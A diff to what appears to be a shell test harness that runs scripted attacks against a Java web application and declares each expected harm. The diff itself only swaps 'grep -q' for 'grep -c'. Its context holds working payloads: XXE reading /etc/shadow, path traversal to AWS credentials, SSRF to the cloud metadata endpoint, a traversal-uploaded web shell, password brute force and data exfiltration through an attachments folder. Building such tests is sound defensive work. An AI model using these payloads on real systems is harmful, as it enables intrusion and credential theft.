@@ -193,11 +193,11 @@ rare_heap_dump() {
 	local data
 	data=$(volume_path java /var/lib/desk)
 	administer_desk heap
-	find "$data" -name '*.hprof' -size +100k -print -delete | grep -q .
+	find "$data" -name '*.hprof' -size +100k -print -delete | grep -c .
 }
 
 rare_class_histogram() {
-	jcmd GC.class_histogram | grep -q java.lang.String
+	jcmd GC.class_histogram | grep -c java.lang.String
 }
 
 rare_gc_log() {
@@ -288,7 +288,7 @@ attack_expression_injection() {
 attack_xml_entity() {
 	harm read '/etc/shadow'
 	fetch /import -X POST --data-binary '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/shadow">]>
-		<orders><order customer="x" amount="1">&x;</order></orders>' | grep -q 'root:'
+		<orders><order customer="x" amount="1">&x;</order></orders>' | grep -c 'root:'
 }
 
 # The web shell of the Java world: an archive where plugins are, uploaded and used.
@@ -296,19 +296,19 @@ attack_plugin_shell() {
 	harm write '/var/lib/desk/plugins/shell.jar'
 	harm exec '/usr/bin/id'
 	put '/attachments/../plugins/shell.jar' <"$images/java.shell.jar"
-	fetch /plugins/shell -X POST --data-binary 'id; uname -a' | grep -q uid=0
+	fetch /plugins/shell -X POST --data-binary 'id; uname -a' | grep -c uid=0
 	rm "$(image_path java /var/lib/desk/plugins/shell.jar)"
 }
 
 attack_traversal() {
 	harm read '/root/.aws/credentials'
-	fetch /attachments/../../../../root/.aws/credentials --path-as-is | grep -q aws-secret-key
+	fetch /attachments/../../../../root/.aws/credentials --path-as-is | grep -c aws-secret-key
 }
 
 attack_metadata() {
 	harm connect '169.254.169.254:80'
 	form POST /feed 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/desk' |
-		grep -q metadata-secret-key
+		grep -c metadata-secret-key
 }
 
 attack_reverse_shell() {
@@ -340,7 +340,7 @@ attack_brute_force() {
 	local word
 	harm write '/var/lib/desk/auth.log'
 	for word in {sunshine,password,monkey,dragon}{1..9}; do
-		log_in admin "$word" | grep -qE '^[0-9a-f]{32}$' && return 0
+		log_in admin "$word" | grep -cE '^[0-9a-f]{32}$' && return 0
 	done
 	return 1
 }
@@ -434,7 +434,7 @@ adaptive_tampering() {
 	for i in {1..40}; do
 		form PUT "/orders/$i" 'customer=nobody' 'item=yours no more' 'amount=0'
 	done
-	fetch /orders/7 | grep -q 'yours no more'
+	fetch /orders/7 | grep -c 'yours no more'
 }
 
 # Orders leave in the address of a feed of the known peer. The connection to it may be an old one.
@@ -453,5 +453,5 @@ adaptive_report() {
 	harm write '/tmp/orders*.csv'
 	shell_command 'ls orders | wc -l; gzip -c orders/* >attachments/file1.txt'
 	fetch /archive -X POST
-	fetch /attachments/file1.txt | gzip -dc | grep -q customer=
+	fetch /attachments/file1.txt | gzip -dc | grep -c customer=
 }
